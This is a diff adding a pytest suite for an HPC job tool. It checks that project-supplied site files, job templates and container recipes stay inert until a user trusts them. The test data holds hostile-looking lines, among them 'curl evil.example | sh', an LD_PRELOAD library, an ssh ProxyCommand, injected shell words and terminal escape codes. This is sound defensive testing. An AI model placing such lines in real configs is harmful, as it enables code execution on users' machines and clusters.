@@ -1,0 +1,339 @@
+"""What a site file that comes with somebody's repository may do before it is trusted, and after."""
+
+from __future__ import annotations
+
+import json
+import stat
+from pathlib import Path
+
+import pytest
+from commandline import ok, within
+
+import hpcjobs
+from hpcjobs.errors import ConfigError
+from hpcjobs.files import state_dir
+
+SITE = "scheduler: local\npartitions: {main: {nodes: 1, node: {cpus: 64}}}\n"
+EVIL = 'setup: ["touch {marker}"]\n'
+
+
+@pytest.fixture
+def marker(tmp_path: Path) -> Path:
+    """A file that a hostile site file would make."""
+    return tmp_path / "marker"
+
+
+def project(here: Path, name: str, text: str) -> Path:
+    (here / "site_configs").mkdir(exist_ok=True)
+    (here / "site_configs" / f"{name}.yaml").write_text(text, encoding="utf-8")
+    return here / "site_configs" / f"{name}.yaml"
+
+
+def test_a_file_that_shadows_the_default_site_runs_nothing_until_it_is_trusted(here: Path, marker: Path) -> None:
+    evil = project(here, "local", SITE + EVIL.format(marker=marker))
+    answer = within("submit", "--wait", "true")
+    assert answer.code == ConfigError.exit_code
+    assert f"{evil}:3: setup" in answer.err
+    assert f"hpcjobs sites trust {evil}" in answer.err
+    assert f"site local is {evil}, which shadows " in answer.err
+    assert not marker.exists()
+    assert not (here / "runs").exists()
+
+    trusted = ok("sites", "trust").out
+    assert f"touch {marker}" in trusted, "what is trusted is printed"
+    ok("submit", "--wait", "true")
+    assert marker.exists()
+
+
+def test_a_dry_run_of_an_untrusted_file_prints_the_script_and_says_so(here: Path, marker: Path) -> None:
+    evil = project(here, "evil", SITE + EVIL.format(marker=marker))
+    for words in (["--dry-run"], ["--explain"], ["--dry-run", "--json"]):
+        answer = ok("submit", "--site", "evil", *words, "true")
+        assert f"site file {evil} belongs to a project and is not trusted as it is now" in answer.err
+        assert "nothing of it is run" in answer.err
+    assert f"touch {marker}" in ok("submit", "--site", "evil", "--dry-run", "true").out
+    assert not marker.exists()
+
+
+def test_a_plan_by_an_untrusted_file_cannot_be_submitted_from_python(here: Path, marker: Path) -> None:
+    project(here, "evil", SITE + EVIL.format(marker=marker))
+    with pytest.raises(ConfigError, match="not trusted"):
+        hpcjobs.plan("true", "evil")
+    with pytest.warns(UserWarning, match="not trusted"):
+        plan = hpcjobs.plan("true", "evil", allow_untrusted=True)
+    with pytest.raises(ConfigError, match="not trusted"):
+        hpcjobs.submit(plan)
+    assert not marker.exists()
+
+
+def test_a_file_that_changes_must_be_trusted_anew(here: Path, marker: Path) -> None:
+    path = project(here, "mine", SITE + 'setup: ["true"]\n')
+    ok("sites", "trust", "mine")
+    ok("submit", "--site", "mine", "--wait", "true")
+    path.write_text(SITE + EVIL.format(marker=marker))
+    assert "not trusted as it is now" in within("submit", "--site", "mine", "true").err
+    path.write_text(SITE + 'setup: ["true"]\n')
+    ok("submit", "--site", "mine", "--wait", "true")
+    assert not marker.exists()
+
+
+def test_trust_in_one_file_is_none_in_a_copy_of_it_and_ends_with_undo(here: Path) -> None:
+    path = project(here, "mine", SITE + 'setup: ["true"]\n')
+    ok("sites", "trust", str(path))
+    project(here, "copy", path.read_text())
+    assert within("submit", "--site", "copy", "true").code == ConfigError.exit_code
+    record = state_dir() / "trusted_sites.json"
+    assert list(json.loads(record.read_text())) == [str(path)]
+    assert stat.S_IMODE(record.stat().st_mode) == 0o600
+    assert "no longer trusted" in ok("sites", "trust", "--undo", "mine").out
+    assert within("submit", "--site", "mine", "true").code == ConfigError.exit_code
+
+
+ACTING = {
+    "shell lines": "setup: ['true']",
+    "an image": "containers: {runtime: apptainer, default: x, images: {x: /x.sif}}",
+    "the program that runs images": "containers: {program: ./apptainer}",
+    "a Python": "python: ./python",
+    "the Python of nodes": "node_python: ./python",
+    "an environment": "environment: {venv: ./venv}",
+    "an environment's initialization": "environment: {conda: x, conda_init: ./init}",
+    "modules": "modules: [evil]",
+    "the script that defines module": "module_init: ./init",
+    "variables": "env: {LD_PRELOAD: ./evil.so}",
+    "a configuration of Slurm, which names plugins": "slurm_conf: ./slurm.conf",
+    "options of sbatch": "sbatch: ['bcast=x']",
+    "options of srun": "srun: ['task-prolog=./evil']",
+    "replaced options": "directives: {time: 'task-prolog=./evil'}",
+    "the address of other ranks": "address_suffix: .example.org",
+    "a login host, which ssh reads": "login: '-oProxyCommand=evil'",
+    "words of a shell on the login node": "jupyter: {hpcjobs: 'evil; hpcjobs'}",
+    "a rented cluster": "cloud: {provider: gcp}",
+    "a burst buffer": "defaults: {bb: 'stage_out'}",
+    "hosts that mpirun reaches by ssh": "defaults: {nodelist: evil.example}",
+    "who gets mail": "defaults: {mail_user: me@evil.example}",
+    "a folder that is written": "run_root: /tmp/elsewhere",
+}
+
+
+@pytest.mark.parametrize("text", ACTING.values(), ids=ACTING.keys())
+def test_what_acts_needs_trust(here: Path, text: str) -> None:
+    path = project(here, "evil", SITE + text + "\n")
+    key = text.partition(":")[0]
+    answer = within("submit", "--site", "evil", "true")
+    assert answer.code == ConfigError.exit_code
+    assert f"{path}:3: {key}" in answer.err
+    assert not (here / "runs").exists()
+
+
+def test_a_partitions_burst_buffer_needs_trust_too(here: Path) -> None:
+    path = project(here, "evil", SITE.replace("cpus: 64}", "cpus: 64}, defaults: {bbf: file}"))
+    assert f"{path}:2: partitions.main.defaults.bbf" in within("submit", "--site", "evil", "true").err
+
+
+def test_a_file_that_only_describes_needs_no_trust(here: Path) -> None:
+    project(here, "mine", SITE + "description: mine\ndefaults: {time: 1h}\nprices: {cpu_hour: 1}\n")
+    answer = ok("submit", "--site", "mine", "--wait", "true")
+    assert "trust" not in answer.err
+    assert "nothing to trust" in ok("sites", "trust").out
+
+
+def test_a_users_own_file_and_one_that_is_named_by_its_path_need_no_trust(here: Path, marker: Path) -> None:
+    folder = Path.home() / ".config" / "hpcjobs" / "site_configs"
+    folder.mkdir(parents=True)
+    (folder / "mine.yaml").write_text(SITE + 'setup: ["true"]\n')
+    (here / "other.yaml").write_text(SITE + EVIL.format(marker=marker))
+    ok("submit", "--site", "mine", "--wait", "true")
+    ok("submit", "--site", "./other.yaml", "--wait", "true")
+    assert marker.exists()
+
+
+def test_the_path_of_a_projects_file_gives_no_trust_from_another_folder_either(
+    here: Path, marker: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = project(here, "evil", SITE + EVIL.format(marker=marker))
+    monkeypatch.chdir(tmp_path)
+    assert within("submit", "--site", str(path), "true").code == ConfigError.exit_code
+    assert not marker.exists()
+
+
+def test_what_a_project_extends_of_the_project_needs_trust_and_what_it_extends_of_the_user_does_not(
+    here: Path, marker: Path
+) -> None:
+    folder = Path.home() / ".config" / "hpcjobs" / "site_configs"
+    folder.mkdir(parents=True)
+    (folder / "base.yaml").write_text(SITE + 'setup: ["true"]\n')
+    project(here, "mine", "extends: base\ndescription: harmless\n")
+    ok("submit", "--site", "mine", "--wait", "true")
+    evil = project(here, "base", SITE + EVIL.format(marker=marker))
+    answer = within("submit", "--site", "mine", "true")
+    assert answer.code == ConfigError.exit_code
+    assert f"{evil}:3: setup" in answer.err
+    ok("sites", "trust", "mine")
+    ok("submit", "--site", "mine", "--wait", "true")
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["ps", "--site", "evil"],
+        ["where", "--site", "evil", "true"],
+        ["submit", "--site", "evil", "--test-only", "true"],
+        ["alloc", "--site", "evil"],
+        ["sweep", "--site", "evil", "--set", "a=1", "true"],
+        ["jupyter", "--site", "evil"],
+        ["jupyter", "--connect", "--site", "evil"],
+        ["nodes", "--site", "evil"],
+        ["drill", "kill-rank", "--site", "evil"],
+        ["fabric", "--site", "evil"],
+        ["report", "jobs", "--site", "evil"],
+        ["container", "list", "--site", "evil"],
+        ["why", "1", "--site", "evil"],
+    ],
+    ids=lambda words: " ".join(words[:2]),
+)
+def test_no_verb_uses_an_untrusted_file(here: Path, words: list[str]) -> None:
+    """Slurm's own commands would load plugins that the file names by its ``slurm_conf``."""
+    project(here, "evil", SITE.replace("local", "slurm") + "slurm_conf: ./slurm.conf\nlogin: evil.example.org\n")
+    answer = within(*words)
+    assert answer.code == ConfigError.exit_code, answer
+    assert "not trusted" in answer.err
+
+
+TEMPLATE = '{{% extends "shipped/job.sh.j2" %}}{{% block prologue %}}\ntouch {marker}\n{{% endblock %}}'
+
+
+def template(here: Path, name: str, text: str) -> Path:
+    path = here / "templates" / name
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+    return path
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["submit", "--site", "local", "--wait", "true"],
+        ["sweep", "--site", "local", "--set", "a=1", "--wait", "true"],
+    ],
+    ids=lambda words: words[0],
+)
+def test_a_projects_template_in_place_of_the_shipped_one_runs_nothing_until_it_is_trusted(
+    here: Path, marker: Path, words: list[str]
+) -> None:
+    evil = template(here, "job.sh.j2", TEMPLATE.format(marker=marker))
+    for name in ("sweep", "jupyter"):
+        template(here, f"{name}.sh.j2", evil.read_text().replace("/job", f"/{name}"))
+    answer = within(*words)
+    assert answer.code == ConfigError.exit_code
+    assert f"/templates/{'sweep' if words[0] == 'sweep' else 'job'}.sh.j2 belongs to a project" in answer.err
+    assert f"hpcjobs sites trust {here}/templates/" in answer.err
+    assert not marker.exists()
+    assert not (here / "runs").exists()
+
+    assert f"touch {marker}" in ok("sites", "trust").out, "what is trusted is printed"
+    ok(*words)
+    assert marker.exists()
+
+    evil.write_text(evil.read_text() + " ")
+    assert "not trusted as it is now" in within("submit", "--site", "local", "true").err
+
+
+def test_what_a_trusted_template_includes_needs_trust_too(here: Path, marker: Path) -> None:
+    text = '{% extends "shipped/job.sh.j2" %}{% block prologue %}{% include "part.txt" %}{% endblock %}'
+    mine = template(here, "mine.sh.j2", text)
+    part = template(here, "part.txt", f"touch {marker}\n")
+    submit = ("submit", "--site", "local", "--template", "mine", "--wait", "true")
+    ok("sites", "trust", str(mine))
+    assert f"template {part} belongs to a project" in within(*submit).err
+    ok("sites", "trust", "./templates/part.txt")
+    ok(*submit)
+    assert marker.exists()
+    assert "no longer trusted" in ok("sites", "trust", "--undo", "./templates/part.txt").out
+    assert within(*submit).code == ConfigError.exit_code
+
+
+def test_a_dry_run_shows_what_an_untrusted_template_makes_and_such_a_plan_cannot_be_submitted(
+    here: Path, marker: Path
+) -> None:
+    evil = template(here, "job.sh.j2", TEMPLATE.format(marker=marker))
+    answer = ok("submit", "--site", "local", "--dry-run", "true")
+    assert f"touch {marker}" in answer.out
+    assert answer.err.count(f"template {evil} belongs to a project and is not trusted as it is now") == 1
+    with pytest.raises(ConfigError, match="not trusted"):
+        hpcjobs.plan("true", "local")
+    with pytest.warns(UserWarning, match="not trusted"):
+        plan = hpcjobs.plan("true", "local", allow_untrusted=True)
+    with pytest.raises(ConfigError, match=str(evil)):
+        hpcjobs.submit(plan)
+    assert not (here / "runs").exists()
+
+
+def test_a_users_own_templates_need_no_trust_in_their_folder_either(
+    here: Path, marker: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    own = Path.home() / ".config" / "hpcjobs"
+    template(own, "mine.sh.j2", TEMPLATE.format(marker=marker))
+    ok("submit", "--site", "local", "--template", "mine", "--wait", "true")
+    assert marker.exists()
+    monkeypatch.chdir(own)
+    ok("submit", "--site", "local", "--template", "mine", "--dry-run", "true")
+
+
+def test_a_projects_recipe_is_built_by_its_name_only_when_it_is_trusted_with_the_files_it_takes_in(
+    here: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("PATH", f"{here / 'bin'}:/usr/bin:/bin")
+    (here / "bin").mkdir()
+    (here / "bin" / "apptainer").write_text(f'#!/bin/sh\necho "$@" >>{here}/calls\nexit 3\n')
+    (here / "bin" / "apptainer").chmod(0o755)
+    (here / "site.yaml").write_text("scheduler: local\ncontainers: {runtime: apptainer, folder: images}\n")
+    (here / "containers").mkdir()
+    recipe = here / "containers" / "horovod_cpu.def"
+    recipe.write_text("Bootstrap: docker\nFrom: debian:12\n\n%setup\n  touch /evil\n\n%files\n  run.sh /run.sh\n")
+    (here / "containers" / "run.sh").write_text("true\n")
+    build = ("container", "build", "horovod_cpu", "--site", "./site.yaml")
+    for words in (build, (*build, "--submit")):
+        answer = within(*words)
+        assert answer.code == ConfigError.exit_code
+        assert f"recipe {recipe} belongs to a project and is not trusted as it is now" in answer.err
+    assert not (here / "calls").exists()
+
+    assert "touch /evil" in ok("sites", "trust").out
+    assert f"the build of {recipe} ended with 3" in within(*build).err
+    assert str(recipe) in (here / "calls").read_text()
+
+    (here / "containers" / "run.sh").write_text("curl evil.example | sh\n")
+    assert "not trusted as it is now" in within(*build).err
+    assert "the build of" in within("container", "build", str(recipe), "--site", "./site.yaml").err
+
+
+def test_what_a_trusted_file_says_to_the_terminal_is_not_obeyed(here: Path) -> None:
+    template(here, "mine.sh.j2", "#!/bin/bash\nevil\x1b[2K\x1b[1A\n")
+    shown = ok("sites", "trust").out
+    assert "evil?[2K?[1A" in shown
+    assert "\x1b" not in shown
+
+
+def test_the_description_of_a_projects_site_says_nothing_to_the_terminal(here: Path) -> None:
+    project(here, "evil", SITE + 'description: "\\e]0;title\\aours"\n')
+    out = ok("sites").out
+    assert "ours" in out
+    assert not {"\x1b", "\x07"} & {*out}
+
+
+def test_the_list_of_sites_marks_what_is_not_trusted(here: Path) -> None:
+    path = project(here, "mine", SITE + 'setup: ["true"]\n')
+    assert f"{path} (not trusted)" in ok("sites").out
+    rows = {row["name"]: row for row in ok("sites", "--json").json}
+    assert rows["mine"]["untrusted"] == [f"{path}:3: setup"]
+    ok("sites", "trust", "mine")
+    assert "(not trusted)" not in ok("sites").out
+
+
+def test_a_damaged_record_of_trust_trusts_nothing(here: Path, marker: Path) -> None:
+    project(here, "evil", SITE + EVIL.format(marker=marker))
+    state_dir().mkdir(parents=True)
+    (state_dir() / "trusted_sites.json").write_text("{")
+    answer = within("submit", "--site", "evil", "true")
+    assert answer.code == ConfigError.exit_code
+    assert "the record of trusted site files cannot be read" in answer.err
